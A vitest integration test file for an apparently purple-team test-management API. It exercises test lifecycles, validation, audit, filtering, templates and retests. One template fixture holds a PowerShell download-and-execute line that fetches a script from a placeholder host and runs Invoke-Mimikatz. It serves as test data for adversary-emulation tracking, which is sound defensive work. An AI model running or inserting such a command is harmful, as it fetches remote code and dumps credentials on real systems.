import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/helpers/app.ts';
import {
  activeUserIds,
  advance,
  auditActions,
  campaign,
  createTest,
  notified,
  statusOf,
  team,
  technique,
  type Member,
  type Team,
} from '../../../test/helpers/test-runs.ts';

let t: Team;

const app = useTestApp();

beforeAll(async () => {
  t = await team(app);
  // More than one user per role, so that "all blue_tech" and "all leads" are really all of them.
  await Promise.all([app.createUser({ role: 'blue_tech' }), app.createUser({ role: 'red_lead' }), app.createUser({ role: 'blue_lead' })]);
  await app.createUser({ role: 'blue_tech', isActive: false });
});

/** A lead's (or an admin's) decision on one side of a test in review. */
const validateSide = (id: string, side: 'red' | 'blue', who: Member, decision: Record<string, string>) =>
  app.api('POST', `/tests/${id}/validate-${side}`, { token: who.token, body: decision });

const timeline = async (id: string) => (await app.api('GET', `/tests/${id}/timeline`, { token: t.viewer.token })).body as any[];

describe('the full pipeline over REST', () => {
  it('create → start → red → submit-red → blue → submit-blue → validate-red → validate-blue ends validated, with notifications, audit, timeline and coverage at each step', async () => {
    const { id: techniqueId, ttpId } = await technique(app);
    expect(await statusOf(app, techniqueId)).toBe('not_evaluated');

    const created = await createTest(app, t.red_lead, techniqueId, {
      description: 'Run an encoded command',
      platform: 'windows',
      procedure_text: 'powershell -enc …',
      tool_used: 'powershell',
    });
    expect(created).toMatchObject({
      state: 'draft',
      technique_id: techniqueId,
      technique: { id: techniqueId, ttp_id: ttpId },
      name: 'Encoded PowerShell',
      description: 'Run an encoded command',
      platform: 'windows',
      procedure_text: 'powershell -enc …',
      tool_used: 'powershell',
      created_by: t.red_lead.id,
      lineage_id: created.id,
      retest_of: null,
      execution_date: null,
      valid_transitions: ['red_executing'],
      elapsed_seconds: 0,
      timer_running: false,
      version: 0,
    });
    const id = created.id as string;
    expect(await statusOf(app, techniqueId)).toBe('not_evaluated');

    const started = await app.api('POST', `/tests/${id}/start-execution`, { token: t.red_tech.token });
    expect(started.status).toBe(200);
    expect(started.body).toMatchObject({
      state: 'red_executing',
      execution_date: expect.any(String),
      timer_running: true,
      valid_transitions: ['blue_evaluating'],
    });
    expect(await notified(app, id, 'test_execution_started')).toEqual([t.red_lead.id]);
    expect(await statusOf(app, techniqueId)).toBe('in_progress');

    const red = await app.api('PATCH', `/tests/${id}/red`, {
      token: t.red_tech.token,
      body: { attack_success: true, red_summary: 'Payload ran', tool_used: 'pwsh' },
    });
    expect(red.body).toMatchObject({ attack_success: true, red_summary: 'Payload ran', tool_used: 'pwsh', state: 'red_executing' });

    const submittedRed = await app.api('POST', `/tests/${id}/submit-red`, { token: t.red_tech.token });
    expect(submittedRed.body).toMatchObject({ state: 'blue_evaluating', red_submitted_at: expect.any(String), timer_running: true });
    expect(await notified(app, id, 'test_ready_for_blue')).toEqual(await activeUserIds(app, ['blue_tech']));
    expect((await notified(app, id, 'test_ready_for_blue')).length).toBe(2);

    const blue = await app.api('PATCH', `/tests/${id}/blue`, {
      token: t.blue_tech.token,
      body: { detection_result: 'detected', blue_summary: 'EDR alert' },
    });
    expect(blue.body).toMatchObject({ detection_result: 'detected', blue_summary: 'EDR alert' });

    const submittedBlue = await app.api('POST', `/tests/${id}/submit-blue`, { token: t.blue_tech.token });
    expect(submittedBlue.body).toMatchObject({
      state: 'in_review',
      blue_submitted_at: expect.any(String),
      timer_running: false,
      pending_validation_sides: ['red', 'blue'],
      valid_transitions: ['rejected', 'validated'],
    });
    expect(await notified(app, id, 'test_ready_for_review')).toEqual(await activeUserIds(app, ['red_lead', 'blue_lead']));
    expect((await notified(app, id, 'test_ready_for_review')).length).toBe(4);
    expect(await statusOf(app, techniqueId)).toBe('in_progress');

    const redApproved = await validateSide(id, 'red', t.red_lead, { red_validation_status: 'approved', red_validation_notes: 'Clean run' });
    expect(redApproved.body).toMatchObject({
      state: 'in_review',
      red_validation_status: 'approved',
      red_validation_notes: 'Clean run',
      red_validated_by: t.red_lead.id,
      red_validated_at: expect.any(String),
      blue_validation_status: null,
      pending_validation_sides: ['blue'],
      decided_at: null,
    });
    expect(await notified(app, id, 'test_validated')).toEqual([]);

    const blueApproved = await validateSide(id, 'blue', t.blue_lead, { blue_validation_status: 'approved' });
    expect(blueApproved.body).toMatchObject({
      state: 'validated',
      blue_validation_status: 'approved',
      blue_validated_by: t.blue_lead.id,
      decided_at: expect.any(String),
      pending_validation_sides: [],
      valid_transitions: [],
      version: 7,
    });
    expect(await notified(app, id, 'test_validated')).toEqual([t.red_lead.id]);
    expect(await statusOf(app, techniqueId)).toBe('validated');

    expect(await auditActions(app, id)).toEqual([
      'create_test',
      'start_test_execution',
      'update_test_red',
      'submit_test_red',
      'update_test_blue',
      'submit_test_blue',
      'validate_test_red',
      'validate_test_blue',
    ]);
    const audit = await app.services.prisma.auditLog.findFirstOrThrow({ where: { entityId: id, action: 'validate_test_blue' } });
    expect(audit).toMatchObject({
      userId: t.blue_lead.id,
      details: { from_state: 'in_review', to_state: 'validated', sides: ['blue'], decision: 'approved' },
    });

    const entries = await timeline(id);
    expect(entries.map((entry) => [entry.kind, entry.from_state, entry.to_state, entry.actor_id])).toEqual([
      ['created', null, 'draft', t.red_lead.id],
      ['state_changed', 'draft', 'red_executing', t.red_tech.id],
      ['red_updated', null, null, t.red_tech.id],
      ['state_changed', 'red_executing', 'blue_evaluating', t.red_tech.id],
      ['blue_updated', null, null, t.blue_tech.id],
      ['state_changed', 'blue_evaluating', 'in_review', t.blue_tech.id],
      ['validation_recorded', null, null, t.red_lead.id],
      ['validation_recorded', null, null, t.blue_lead.id],
      ['state_changed', 'in_review', 'validated', t.blue_lead.id],
    ]);
    expect(entries[1].details).toEqual({ action: 'start-execution', timer: 'started' });
    expect(entries[2].details).toEqual({
      fields: ['tool_used', 'attack_success', 'red_summary'],
      changes: { tool_used: 'pwsh', attack_success: true },
    });
    expect(entries[5].details).toEqual({ action: 'submit-blue', timer: 'stopped' });
    expect(entries[6].details).toEqual({ side: 'red', status: 'approved', notes: 'Clean run' });
    expect(entries.every((entry, index) => index === 0 || entry.at > entries[index - 1].at)).toBe(true);
    expect(entries[0]).toMatchObject({ actor_name: t.red_lead.username, at: expect.any(String) });

    const technique_ = await app.graphql(
      `query ($ttpId: String!) { technique(ttpId: $ttpId) { statusGlobal tests { id state } } }`,
      { ttpId },
      t.viewer.token,
    );
    expect(technique_.data.technique).toEqual({ statusGlobal: 'validated', tests: [{ id, state: 'validated' }] });
  });

  it('blue lead rejection sends the test to rejected and notifies the creator; reopen clears every validation field', async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.blue_lead, techniqueId);
    await advance(app, t, id, 'in_review');
    await validateSide(id, 'red', t.red_lead, { red_validation_status: 'approved', red_validation_notes: 'ok' });

    const rejected = await validateSide(id, 'blue', t.blue_lead, {
      blue_validation_status: 'rejected',
      blue_validation_notes: 'No telemetry',
    });
    expect(rejected.body).toMatchObject({
      state: 'rejected',
      red_validation_status: 'approved',
      blue_validation_status: 'rejected',
      blue_validation_notes: 'No telemetry',
      decided_at: expect.any(String),
      valid_transitions: ['draft'],
    });
    expect(await notified(app, id, 'test_rejected')).toEqual([t.blue_lead.id]);
    expect(await notified(app, id, 'test_validated')).toEqual([]);
    expect(await statusOf(app, techniqueId)).toBe('in_progress');

    // Remediation is open once reviewed; completion is stamped.
    const remediation = await app.api('PATCH', `/tests/${id}/remediation`, {
      token: t.red_lead.token,
      body: {
        remediation_steps: 'Enable script block logging\nForward 4104',
        remediation_status: 'completed',
        remediation_assignee: t.blue_tech.id,
      },
    });
    expect(remediation.body).toMatchObject({
      remediation_status: 'completed',
      remediation_assignee: t.blue_tech.id,
      remediation_completed_at: expect.any(String),
    });
    const reopenedRemediation = await app.api('PATCH', `/tests/${id}/remediation`, {
      token: t.red_lead.token,
      body: { remediation_status: 'in_progress' },
    });
    expect(reopenedRemediation.body).toMatchObject({ remediation_status: 'in_progress', remediation_completed_at: null });

    const reopened = await app.api('POST', `/tests/${id}/reopen`, { token: t.red_lead.token });
    expect(reopened.body).toMatchObject({
      state: 'draft',
      red_validation_status: null,
      red_validation_notes: null,
      red_validated_by: null,
      red_validated_at: null,
      blue_validation_status: null,
      blue_validation_notes: null,
      blue_validated_by: null,
      blue_validated_at: null,
      decided_at: null,
      detection_result: 'detected',
    });
    expect(await statusOf(app, techniqueId)).toBe('not_evaluated');
    expect((await timeline(id)).at(-1)).toMatchObject({
      kind: 'state_changed',
      from_state: 'rejected',
      to_state: 'draft',
      actor_id: t.red_lead.id,
    });
    expect(await auditActions(app, id)).toContain('reopen_test');

    // Back through the pipeline: the second round is decided afresh.
    await advance(app, t, id, 'validated');
    expect(await statusOf(app, techniqueId)).toBe('validated');
  });

  it('a red lead rejection alone rejects the test without waiting for the blue side', async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.admin, techniqueId);
    await advance(app, t, id, 'in_review');
    const rejected = await validateSide(id, 'red', t.red_lead, { red_validation_status: 'rejected' });
    expect(rejected.body).toMatchObject({ state: 'rejected', red_validation_status: 'rejected', blue_validation_status: null });
    expect(await notified(app, id, 'test_rejected')).toEqual([t.admin.id]);
  });

  it('an admin validates both sides one after the other', async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.admin, techniqueId);
    await advance(app, t, id, 'in_review');
    await validateSide(id, 'blue', t.admin, { blue_validation_status: 'approved' });
    const done = await validateSide(id, 'red', t.admin, { red_validation_status: 'approved' });
    expect(done.body).toMatchObject({ state: 'validated', red_validated_by: t.admin.id, blue_validated_by: t.admin.id });
  });
});

describe('the earlier lifecycle endpoints on the same machine', () => {
  it("POST /validate approves the caller's lead side and records result as detection_result; the other lead completes it", async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.red_lead, techniqueId);
    await advance(app, t, id, 'in_review');
    const half = await app.api('POST', `/tests/${id}/validate`, {
      token: t.blue_lead.token,
      body: { result: 'partially_detected', comments: 'Only one alert' },
    });
    expect(half.body).toMatchObject({
      state: 'in_review',
      blue_validation_status: 'approved',
      blue_validation_notes: 'Only one alert',
      detection_result: 'partially_detected',
      red_validation_status: null,
    });
    const again = await app.api('POST', `/tests/${id}/validate`, { token: t.blue_lead.token, body: {} });
    expect(again).toMatchObject({ status: 409, body: { code: 'ALREADY_VALIDATED', side: 'blue' } });
    const done = await app.api('POST', `/tests/${id}/validate`, { token: t.red_lead.token });
    expect(done.body).toMatchObject({ state: 'validated', red_validation_status: 'approved' });
    expect(await statusOf(app, techniqueId)).toBe('partial');
    expect(await auditActions(app, id)).toEqual(expect.arrayContaining(['validate_test']));
  });

  it("an admin's POST /validate approves every pending side at once", async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.red_lead, techniqueId);
    await advance(app, t, id, 'in_review');
    const done = await app.api('POST', `/tests/${id}/validate`, { token: t.admin.token, body: { result: 'not_detected' } });
    expect(done.body).toMatchObject({
      state: 'validated',
      red_validation_status: 'approved',
      blue_validation_status: 'approved',
      detection_result: 'not_detected',
    });
    expect(await statusOf(app, techniqueId)).toBe('not_covered');
    const entries = await timeline(id);
    expect(entries.filter((entry) => entry.kind === 'validation_recorded').map((entry) => entry.details.side)).toEqual(['red', 'blue']);
  });

  it("POST /reject rejects for the caller's side; technicians may not", async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.red_lead, techniqueId);
    await advance(app, t, id, 'in_review');
    expect((await app.api('POST', `/tests/${id}/reject`, { token: t.red_tech.token })).status).toBe(403);
    const rejected = await app.api('POST', `/tests/${id}/reject`, { token: t.red_lead.token });
    expect(rejected.body).toMatchObject({ state: 'rejected', red_validation_status: 'rejected', blue_validation_status: null });
    expect(await notified(app, id, 'test_rejected')).toEqual([t.red_lead.id]);
  });
});

describe('reading and listing', () => {
  it('GET /tests/{id} answers the full test; unknown ids answer 404, malformed ones 400 naming the id', async () => {
    const { id: techniqueId } = await technique(app);
    const { id } = await createTest(app, t.red_lead, techniqueId);
    const read = await app.api('GET', `/tests/${id}`, { token: t.viewer.token });
    expect(read).toMatchObject({ status: 200, body: { id, state: 'draft', technique: { id: techniqueId } } });
    expect(Object.keys(read.body)).toEqual(
      expect.arrayContaining(['red_validation_status', 'remediation_steps', 'data_classification', 'elapsed_seconds', 'lineage_id']),
    );
    expect(read.body).toMatchObject({ evidences: [], detection_evaluations: [] });

    const evidence = await app.services.prisma.evidence.create({
      data: {
        testId: id,
        team: 'red',
        fileName: 'run.log',
        contentType: 'text/plain',
        sizeBytes: 3n,
        sha256Hash: 'ab'.repeat(32),
        storageKey: `tests/${id}/run.log`,
        uploadedById: t.red_tech.id,
      },
    });
    await app.services.prisma.detectionEvaluation.create({
      data: { testId: id, triggered: true, ruleTitle: 'Encoded PowerShell', ruleSource: 'sigma', ruleAuthor: 'Someone' },
    });
    const detailed = await app.api('GET', `/tests/${id}`, { token: t.viewer.token });
    expect(detailed.body.evidences).toEqual([
      expect.objectContaining({ id: evidence.id, test_id: id, team: 'red', file_name: 'run.log', sha256_hash: 'ab'.repeat(32) }),
    ]);
    expect(detailed.body.detection_evaluations).toEqual([
      expect.objectContaining({ test_id: id, triggered: true, rule_title: 'Encoded PowerShell', rule_author: 'Someone' }),
    ]);
    expect(await app.api('GET', '/tests/00000000-0000-4000-8000-000000000000', { token: t.viewer.token })).toMatchObject({
      status: 404,
      body: { code: 'NOT_FOUND' },
    });
    expect(await app.api('GET', '/tests/not-a-uuid', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'id' },
    });
    expect(await app.api('GET', '/tests/not-a-uuid/timeline', { token: t.viewer.token })).toMatchObject({ status: 400 });
    expect(await app.api('POST', '/tests/not-a-uuid/start-execution', { token: t.admin.token })).toMatchObject({ status: 400 });
  });

  it('filters by state, technique, campaign, assignee, platform, creator and pending validation side, with the page envelope', async () => {
    const { id: techniqueId, ttpId } = await technique(app);
    const { id: campaignId } = await campaign(app, t.admin);
    const a = await createTest(app, t.red_lead, techniqueId, { platform: 'linux', campaign_id: campaignId, assigned_to: t.red_tech.id });
    const b = await createTest(app, t.blue_lead, techniqueId, { platform: 'Windows' });
    const c = await createTest(app, t.admin, techniqueId, { platform: 'windows' });
    const d = await createTest(app, t.admin, techniqueId, { platform: 'macos' });
    await advance(app, t, b.id, 'in_review');
    await advance(app, t, c.id, 'in_review');
    await validateSide(c.id, 'red', t.red_lead, { red_validation_status: 'approved' });
    await advance(app, t, d.id, 'in_review');
    await validateSide(d.id, 'blue', t.blue_lead, { blue_validation_status: 'approved' });

    const ids = async (query: string) => {
      const response = await app.api('GET', `/tests?technique_id=${techniqueId}${query}`, { token: t.viewer.token });
      expect(response.status, JSON.stringify(response.body)).toBe(200);
      return response.body.items.map((item: any) => item.id);
    };
    expect(await ids('')).toEqual([d.id, c.id, b.id, a.id]);
    expect(await ids('&state=draft')).toEqual([a.id]);
    expect(await ids(`&campaign_id=${campaignId}`)).toEqual([a.id]);
    expect(await ids(`&assigned_to=${t.red_tech.id}`)).toEqual([a.id]);
    expect(await ids('&platform=windows')).toEqual([c.id, b.id]);
    expect(await ids(`&created_by=${t.admin.id}`)).toEqual([d.id, c.id]);
    expect(await ids('&pending_validation_side=red')).toEqual([d.id, b.id]);
    expect(await ids('&pending_validation_side=blue')).toEqual([c.id, b.id]);
    expect(await ids('&pending_validation_side=blue&state=draft')).toEqual([]);

    const paged = await app.api('GET', `/tests?technique_id=${techniqueId}&offset=1&limit=2`, { token: t.viewer.token });
    expect(paged.body).toMatchObject({ total: 4, offset: 1, limit: 2 });
    expect(paged.body.items.map((item: any) => item.id)).toEqual([c.id, b.id]);
    expect((await app.api('GET', '/tests', { token: t.viewer.token })).body).toMatchObject({ offset: 0, limit: 50 });
    expect((await app.api('GET', '/tests?limit=200', { token: t.viewer.token })).status).toBe(200);
    expect(await app.api('GET', '/tests?limit=201', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'limit' },
    });
    expect(await app.api('GET', '/tests?state=done', { token: t.viewer.token })).toMatchObject({ status: 400, body: { field: 'state' } });
    expect(await app.api('GET', '/tests?pending_validation_side=green', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { field: 'pending_validation_side' },
    });
    // A technique is named by its uuid or its ATT&CK id; one the catalog lacks matches nothing.
    const byAttackId = await app.api('GET', `/tests?technique_id=${ttpId}`, { token: t.viewer.token });
    expect(byAttackId.body.items.map((item: any) => item.id)).toEqual([d.id, c.id, b.id, a.id]);
    expect((await app.api('GET', '/tests?technique_id=T9999.999', { token: t.viewer.token })).body).toMatchObject({ items: [], total: 0 });
  });

  it('takes a technique by its ATT&CK id when creating, copying from a template and moving a test', async () => {
    const { id: techniqueId, ttpId } = await technique(app);
    const other = await technique(app);
    const created = await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'by ATT&CK id', technique_id: ttpId } });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.technique_id).toBe(techniqueId);
    const moved = await app.api('PATCH', `/tests/${created.body.id}`, { token: t.red_lead.token, body: { technique_id: other.ttpId } });
    expect(moved.status, JSON.stringify(moved.body)).toBe(200);
    expect(moved.body.technique_id).toBe(other.id);
    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x', technique_id: 'T9999.999' } })).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'technique_id' },
    });
  });

  it('creation validates its body and the referenced records', async () => {
    const { id: techniqueId } = await technique(app);
    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { technique_id: techniqueId } })).toMatchObject({
      status: 400,
      body: { field: 'name' },
    });
    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x' } })).toMatchObject({
      status: 400,
      body: { field: 'technique_id' },
    });
    expect(
      await app.api('POST', '/tests', {
        token: t.red_lead.token,
        body: { name: 'x', technique_id: '00000000-0000-4000-8000-000000000000' },
      }),
    ).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'technique_id' },
    });
    expect(
      await app.api('POST', '/tests', {
        token: t.red_lead.token,
        body: { name: 'x', technique_id: techniqueId, assigned_to: t.viewer.id.replace(/.$/, (last) => (last === '0' ? '1' : '0')) },
      }),
    ).toMatchObject({
      status: 400,
      body: { field: 'assigned_to' },
    });
    const titled = await app.api('POST', '/tests', {
      token: t.red_lead.token,
      body: { title: 'Via title', objective: 'Via objective', technique_id: techniqueId },
    });
    expect(titled.body).toMatchObject({ name: 'Via title', description: 'Via objective' });
    expect((await app.api('POST', '/tests', { token: t.red_tech.token, body: { name: 'x', technique_id: techniqueId } })).status).toBe(403);
  });
});

describe('from a template', () => {
  it('pre-fills name, description, platform, procedure (arguments filled), tool and remediation from an Atomic Red Team template', async () => {
    const target = await technique(app, 'T1059.001');
    const template = await app.services.prisma.testTemplate.create({
      data: {
        name: 'Mimikatz via PowerShell',
        description: 'Download and run Mimikatz',
        ttpTechniqueId: 'T1059.001',
        platform: 'windows',
        platforms: ['windows'],
        source: 'atomic_red_team',
        executor: 'powershell',
        procedure: "IEX (New-Object Net.WebClient).DownloadString('#{mimurl}'); Invoke-Mimikatz #{unknown}",
        cleanupCommand: 'Remove-Item #{out_file}',
        inputArguments: {
          mimurl: { description: 'URL', type: 'url', default: 'https://example.test/m.ps1' },
          out_file: { type: 'path', default: 'C:\\m.txt' },
        },
        suggestedRemediation: 'Block script downloads',
        externalId: 'f3132740-55bc-48c4-bcc0-758a459cd027',
      },
    });
    const created = await app.api('POST', '/tests/from-template', {
      token: t.blue_lead.token,
      body: { template_id: template.id, technique_id: target.id },
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      state: 'draft',
      technique_id: target.id,
      template_id: template.id,
      name: 'Mimikatz via PowerShell',
      description: 'Download and run Mimikatz',
      platform: 'windows',
      procedure_text:
        "IEX (New-Object Net.WebClient).DownloadString('https://example.test/m.ps1'); Invoke-Mimikatz #{unknown}\n\nCleanup:\nRemove-Item C:\\m.txt",
      tool_used: 'powershell',
      remediation_steps: 'Block script downloads',
      created_by: t.blue_lead.id,
    });
    // Without technique_id, the template's own technique is used.
    const implied = await app.api('POST', '/tests/from-template', {
      token: t.admin.token,
      body: { template_id: template.id, name: 'Renamed' },
    });
    expect(implied.body).toMatchObject({ technique_id: target.id, name: 'Renamed' });

    const manual = await app.services.prisma.testTemplate.create({
      data: { name: 'Manual', procedure: 'whoami', toolUsed: 'cmd', isActive: false },
    });
    expect(
      await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id, technique_id: target.id } }),
    ).toMatchObject({
      status: 400,
      body: { field: 'template_id' },
    });
    await app.services.prisma.testTemplate.update({ where: { id: manual.id }, data: { isActive: true } });
    expect(await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id } })).toMatchObject({
      status: 400,
      body: { field: 'technique_id' },
    });
    const fromManual = await app.api('POST', '/tests/from-template', {
      token: t.admin.token,
      body: { template_id: manual.id, technique_id: target.id },
    });
    expect(fromManual.body).toMatchObject({ procedure_text: 'whoami', tool_used: 'cmd', remediation_steps: null, platform: null });
    expect(
      await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: target.id, technique_id: target.id } }),
    ).toMatchObject({
      status: 400,
      body: { field: 'template_id' },
    });
  });
});

describe('retests', () => {
  it('POST /tests/{id}/retest copies the definition into a new draft of the same lineage; the chain lists them in creation order', async () => {
    const { id: techniqueId } = await technique(app);
    const first = await createTest(app, t.red_lead, techniqueId, { platform: 'linux', procedure_text: 'id' });
    expect((await app.api('POST', `/tests/${first.id}/retest`, { token: t.red_lead.token })).body).toMatchObject({
      code: 'RETEST_NOT_ALLOWED',
      current_state: 'draft',
    });
    await advance(app, t, first.id, 'rejected');

    const second = await app.api('POST', `/tests/${first.id}/retest`, { token: t.blue_lead.token });
    expect(second.status).toBe(201);
    expect(second.body).toMatchObject({
      state: 'draft',
      name: first.name,
      platform: 'linux',
      procedure_text: 'id',
      detection_result: null,
      retest_of: first.id,
      lineage_id: first.id,
      created_by: t.blue_lead.id,
    });
    await advance(app, t, second.body.id, 'validated');
    const third = await app.api('POST', `/tests/${second.body.id}/retest`, { token: t.admin.token });
    expect(third.body).toMatchObject({ retest_of: second.body.id, lineage_id: first.id });

    for (const member of [first.id, second.body.id, third.body.id]) {
      const chain = await app.api('GET', `/tests/${member}/retest-chain`, { token: t.viewer.token });
      expect(chain.body.map((test: any) => test.id)).toEqual([first.id, second.body.id, third.body.id]);
    }
    expect((await timeline(first.id)).at(-1)).toMatchObject({ kind: 'retest_created', details: { retest_id: second.body.id } });
    expect((await timeline(third.body.id))[0]).toMatchObject({ kind: 'created', details: { retest_of: second.body.id } });
    expect((await app.api('POST', `/tests/${first.id}/retest`, { token: t.red_tech.token })).status).toBe(403);
  });
});
